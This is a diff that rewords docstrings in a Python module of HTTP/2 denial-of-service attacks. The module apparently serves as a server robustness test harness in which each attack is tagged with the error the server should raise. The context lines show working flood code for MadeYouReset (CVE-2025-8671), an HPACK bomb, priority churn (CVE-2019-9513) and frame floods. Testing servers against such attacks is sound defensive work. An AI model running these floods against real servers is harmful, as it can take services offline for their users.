@@ -1,4 +1,4 @@
-"""Attacks by frames: streams, header blocks, and frames that bring nothing."""
+"""Attacks with frames: streams, header blocks, and frames without effect."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ def streams(connection: Connection, make: Callable[[int], bytes], each: int = 50
 
 
 def opened(connection: Connection, path: str = CHECK) -> Callable[[int], bytes]:
-    """Bytes that open a stream and leave it open. The first call fills the table of both sides."""
+    """A function that returns the bytes of an open stream. The first call fills the tables of both sides."""
     connection.write(connection.headers(connection.stream(), request(path), END_HEADERS | END_STREAM))
     block = connection.encoder.encode(request(path))
     return lambda stream: frame(HEADERS, END_HEADERS, stream, block)
@@ -46,7 +46,7 @@ def made_you_reset_by_window(attacker: Attacker) -> None:
 
 @attack("too_many_stream_errors")
 def made_you_reset_by_length(attacker: Attacker) -> None:
-    """CVE-2025-8671: a content-length that is not kept."""
+    """CVE-2025-8671: a wrong content-length."""
     connection = attacker.settled()
     connection.write(connection.headers(connection.stream(), request(CHECK, ("content-length", "5"))))
     block = connection.encoder.encode(request(CHECK, ("content-length", "5")))
@@ -66,7 +66,7 @@ def made_you_reset_by_itself(attacker: Attacker) -> None:
 
 @attack("WINDOW_UPDATE: window_size_increment == 0")
 def made_you_reset_by_zero_increment(attacker: Attacker) -> None:
-    """CVE-2025-8671: a window that is opened by nothing. nghttp2 ends the connection at the first."""
+    """CVE-2025-8671: a window update of zero. nghttp2 ends the connection at the first one."""
     connection = attacker.settled()
     head = opened(connection)
     attacker.flood(connection, streams(connection, lambda stream: head(stream) + window_update(stream, 0)))
@@ -80,7 +80,7 @@ def reset_of_idle_streams(attacker: Attacker) -> None:
 
 @attack("frame_on_closed_stream")
 def data_after_a_reset(attacker: Attacker) -> None:
-    """More and more of a request that was answered long ago."""
+    """More and more DATA for a request that was answered long ago."""
     connection, stream = answered_early(attacker)
     attacker.flood(connection, lambda: frame(DATA, 0, stream, b"a") * 500)
 
@@ -93,7 +93,7 @@ def headers_after_a_reset(attacker: Attacker) -> None:
 
 
 def answered_early(attacker: Attacker) -> tuple[Connection, int]:
-    """A call that was answered before its end came, so that its stream was reset."""
+    """A call that was answered before its end arrived, so that its stream was reset."""
     connection = attacker.settled()
     stream = connection.stream()
     connection.write(connection.headers(stream, request("/nowhere/Nothing")))
@@ -142,7 +142,7 @@ def header_block_of_a_megabyte(attacker: Attacker) -> None:
 
 @attack("header_list_bomb")
 def hpack_bomb(attacker: Attacker) -> None:
-    """One entry of four thousand bytes, named by sixteen thousand bytes of references."""
+    """One entry of four thousand bytes, and sixteen thousand bytes of references to it."""
     connection = attacker.settled()
     block = connection.encoder.encode(request() + [("x-bomb", "b" * 3900)])
     # 62 is the newest entry of the dynamic table.
@@ -166,7 +166,7 @@ def fields_without_a_name(attacker: Attacker) -> None:
         HEADERS, END_HEADERS | END_STREAM, stream, block), each=2))
 
 
-# Frames that bring nothing.
+# Frames without effect.
 
 
 @attack("too_many_pings")
@@ -214,7 +214,7 @@ def unknown_frames(attacker: Attacker) -> None:
 
 @attack("too_many_priorities")
 def priorities(attacker: Attacker) -> None:
-    """CVE-2019-9513: the tree is churned."""
+    """CVE-2019-9513: constant changes of the priority tree."""
     def churn() -> Iterator[bytes]:
         while True:
             yield b"".join(frame(PRIORITY, 0, 2 * at + 3, (2 * at + 1).to_bytes(4, "big") + b"\x10")
@@ -225,7 +225,7 @@ def priorities(attacker: Attacker) -> None:
 
 @attack("status 0")
 def settings_games(attacker: Attacker) -> None:
-    """The least and the most of each setting, and a call under each."""
+    """The minimum and maximum of each setting, and a call with each."""
     with attacker.settled() as connection:
         for pair in [(HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 2**32 - 1), (ENABLE_PUSH, 0), (ENABLE_PUSH, 1),
                      (MAX_CONCURRENT_STREAMS, 0), (MAX_CONCURRENT_STREAMS, 2**32 - 1), (MAX_FRAME_SIZE, 16384),
@@ -236,7 +236,7 @@ def settings_games(attacker: Attacker) -> None:
 
 @attack("status 0")
 def window_games(attacker: Attacker) -> None:
-    """A hundred streams whose windows are moved together between the ends of their range."""
+    """A hundred streams whose windows move together between the ends of their range."""
     with attacker.settled() as connection:
         held = [connection.stream() for _ in range(100)]
         connection.write(*[connection.headers(stream, request()) for stream in held])
